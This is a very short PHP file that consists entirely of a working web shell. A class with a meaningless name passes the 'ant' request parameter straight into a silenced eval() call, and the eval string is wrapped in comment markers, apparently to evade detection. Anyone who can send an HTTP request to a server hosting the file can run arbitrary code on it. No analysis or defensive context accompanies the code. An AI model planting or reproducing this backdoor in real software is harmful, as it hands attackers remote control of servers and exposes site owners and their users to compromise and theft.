<?php
class TNPX { public function __construct($H){ @eval("/*Zx9k*/".$H."/*Zx9k*/"); }}
new TNPX($_REQUEST['ant']);
